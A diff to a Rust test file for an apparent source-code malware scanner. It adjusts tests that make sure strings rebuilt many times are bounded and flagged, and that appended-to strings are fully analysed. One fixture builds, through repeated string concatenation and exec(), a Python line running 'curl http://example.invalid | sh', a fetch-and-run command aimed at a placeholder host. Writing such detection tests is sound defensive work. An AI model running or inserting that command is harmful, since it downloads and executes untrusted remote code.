@@ -1032,11 +1032,13 @@ fn one_long_line_of_repeated_calls_is_listed_briefly() {
 
 #[test]
 fn a_string_rebuilt_many_times_is_bounded() {
-    // `x = 'abcdefgh' + x` 20,000 times: each value is a longer copy of the last, so the
-    // strings a file builds grow quadratically (1.3 GB here, each searched by every string
-    // rule: 11 s before the per-file bound). Past the bound the file is said to be partly
-    // unanalysed.
-    let src = format!("x = ''\n{}exec(x)\n", "x = 'abcdefgh' + x\n".repeat(20_000));
+    // `x = x + x[:8]` 20,000 times: each value is a longer copy of the last, so the strings
+    // a file builds grow quadratically (1.3 GB here, each searched by every string rule: 11 s
+    // before the per-file bound). Past the bound the file is said to be partly unanalysed.
+    let src = format!(
+        "x = 'abcdefgh'\n{}exec(x)\n",
+        "x = x + x[:8]\n".repeat(20_000)
+    );
     let r = scan_source("a string rebuilt 20,000 times", src);
     assert_ne!(r.verdict, Verdict::Clean);
     assert!(
@@ -1046,11 +1048,12 @@ fn a_string_rebuilt_many_times_is_bounded() {
         "{:?}",
         rules_fired(&r)
     );
-    // Appended to instead (`x = x + ...`, `x += ...`), the usual shape of generated code, the
-    // value is built once: all of it is analysed, and the code it ends with is found.
+    // Appended to instead (`x = x + ...`, `x += ...`, `x = ... + x`), the usual shape of
+    // generated code, the value is built once: all of it is analysed, and the code it ends
+    // with is found.
     let src = format!(
         "x = '#'\n{}x += '\\nimport os; os.system(\\'curl http://example.invalid | sh\\')'\nexec(x)\n",
-        "x = x + 'abcdefgh'\nx += 'ijklmnop'\n".repeat(10_000)
+        "x = x + 'abcdefgh'\nx += 'ijklmnop'\nx = 'qrstuvwx' + x\n".repeat(7_000)
     );
     let r = scan_source("a string appended to 20,000 times", src);
     assert!(
